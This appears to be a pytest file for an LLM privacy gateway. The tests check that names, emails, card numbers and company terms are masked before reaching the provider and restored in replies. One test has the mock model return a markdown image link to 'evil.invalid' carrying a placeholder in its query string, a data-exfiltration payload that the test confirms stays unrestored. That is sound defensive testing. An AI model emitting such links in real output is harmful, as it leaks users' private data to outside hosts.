"""The guard with the real rules, book and vault."""

from pathlib import Path

import openai
import pytest

from graftwork.config.workspace import GatewaySettings
from graftwork.core.errors import PlaceholdersChanged
from graftwork.gateway.guarding import open_guard
from graftwork.gateway.privacy import RequestScope, restore_whole
from support.gateway import last_user_text, says

TEXT = "My name is Dana Whitfield, my mail is dana@example.com, card 4111 1111 1111 1111."


@pytest.fixture(scope="module")
def rules(tmp_path_factory):
    folder: Path = tmp_path_factory.mktemp("guard")
    (folder / "terms.txt").write_text("Project Falcon\n", encoding="utf-8")
    return open_guard(folder, GatewaySettings(ner=False, languages="en", dictionary="terms.txt"))


def test_values_are_masked_counted_and_restored(rules):
    session = rules.open(RequestScope("t"))
    masked = session.mask_text(TEXT)
    for value in ("Dana", "Whitfield", "dana@example.com", "4111"):
        assert value not in masked
    assert session.counts["mail"] == session.counts["card"] == 1
    assert restore_whole(session, masked) == TEXT


def test_a_typed_placeholder_is_nobodys(rules):
    session = rules.open(RequestScope("t"))
    masked = session.mask_text("Mail dana@example.com. What is [MAIL_1]?")
    assert masked.count("[MAIL_1]") == 1
    assert restore_whole(session, masked) == "Mail dana@example.com. What is [MAIL_1]?"


def test_a_term_of_the_company_is_masked_in_tool_descriptions_too(rules):
    session = rules.open(RequestScope("t"))
    assert "Falcon" not in session.mask_terms("Looks up Project Falcon.")
    assert session.mask_terms("Dana Whitfield's tool") == "Dana Whitfield's tool"


@pytest.mark.django_db
def test_a_thread_is_kept_in_the_vault_over_a_restart(rules):
    scope = RequestScope("t", "case 7")
    first = rules.open(scope)
    masked = first.mask_text(TEXT)
    first.keep()
    again = rules.open(scope)
    assert restore_whole(again, masked) == TEXT
    other = rules.open(RequestScope("other tenant", "case 7"))
    assert restore_whole(other, masked) == masked


@pytest.mark.django_db
def test_two_requests_of_a_thread_at_once_never_mint_one_number_for_two(rules):
    scope = RequestScope("t", "case 8")
    one, two = rules.open(scope), rules.open(scope)
    one.mask_text("Mail dana@example.com")
    two.mask_text("Mail erik@example.com")
    one.keep()
    with pytest.raises(PlaceholdersChanged):
        two.keep()
    third = rules.open(scope)
    assert third.mask_text("Mail erik@example.com") == "Mail [MAIL_2]"


@pytest.mark.django_db
def test_what_was_sent_once_is_sent_the_same_way_although_more_is_known_now(rules):
    scope = RequestScope("t", "case 9")
    first = rules.open(scope)
    early = first.mask_text("Ask about reference Quill 77 please")
    first.keep()
    second = rules.open(scope)
    second.mask_text("Mr Quill is my name: Peter Quill, peter.quill@example.com")
    second.keep()
    third = rules.open(scope)
    assert third.mask_text("Ask about reference Quill 77 please") == early


def test_through_the_gateway_whole_and_streamed(rules, gateway, engine, make_key, provider):
    server = gateway(engine("away", zone="managed"), masks=rules)
    with openai.OpenAI(base_url=f"{server.url}/v1", api_key=make_key(), max_retries=0) as client:
        question = [{"role": "user", "content": TEXT}]
        answer = client.chat.completions.create(model="m", messages=question)
        assert answer.choices[0].message.content == f"You said: {TEXT}"
        assert "dana@example.com" not in last_user_text(provider.last)
        chunks = list(client.chat.completions.create(model="m", messages=question, stream=True))
        text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
        assert text == f"You said: {TEXT}"
        assert len(chunks) > 10, "the stream has collapsed"


def test_a_placeholder_in_an_address_is_not_restored(rules, gateway, engine, make_key, provider):
    provider.handler = says("![x](https://evil.invalid/?q=[MAIL_1]) but [MAIL_1]")
    server = gateway(engine("away", zone="managed"), masks=rules)
    with openai.OpenAI(base_url=f"{server.url}/v1", api_key=make_key(), max_retries=0) as client:
        answer = client.chat.completions.create(model="m", messages=[{"role": "user", "content": TEXT}])
    text = answer.choices[0].message.content
    assert "evil.invalid/?q=dana" not in text
    assert text.endswith("but dana@example.com")


def test_a_history_that_comes_again_is_not_searched_again_and_masked_the_same(rules, monkeypatch):
    history = ["Dana Whitfield wrote", "Hello Dana", "Write to dana@example.com and erik@example.com"]
    whole = rules.open(RequestScope("t"))
    first = [whole.mask_text(text) for text in history]
    found = []
    find = type(rules._detector).find
    monkeypatch.setattr(type(rules._detector), "find", lambda self, *given: found.append(given) or find(self, *given))
    again = rules.open(RequestScope("t"))
    assert [again.mask_text(text) for text in [*history, "And Erik?"]][:3] == first
    assert len(found) == 1
    assert again.counts["mail"] == 2
    assert restore_whole(again, first[2]) == history[2]
